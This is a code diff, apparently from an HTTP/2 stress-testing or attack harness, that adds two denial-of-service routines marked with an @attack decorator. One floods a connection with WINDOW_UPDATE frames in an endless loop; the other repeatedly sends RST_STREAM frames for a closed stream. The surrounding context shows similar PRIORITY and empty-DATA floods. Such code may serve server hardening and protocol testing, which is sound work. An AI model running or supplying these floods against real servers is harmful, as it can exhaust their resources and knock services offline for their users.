@@ -181,6 +181,19 @@ def priorities(line: Line) -> None:
         line.write(b"".join(frame(PRIORITY, 0, line.new_id(), bytes(5)) for _ in range(1000)))
 
 
+@attack("WINDOW_UPDATE flood")
+def window_updates(line: Line) -> None:
+    while True:
+        line.write(frame(WINDOW_UPDATE, 0, 0, four(1)) * 1000)
+
+
+@attack("RST_STREAM of a closed stream")
+def closed_resets(line: Line) -> None:
+    closed = frame(RST_STREAM, 0, line.call(GENERATES, ONE), four(CANCEL))
+    while True:
+        line.write(closed * 1000)
+
+
 @attack("empty DATA")
 def empty_data(line: Line) -> None:
     empty = frame(DATA, 0, line.open(EACHES)) * 1000
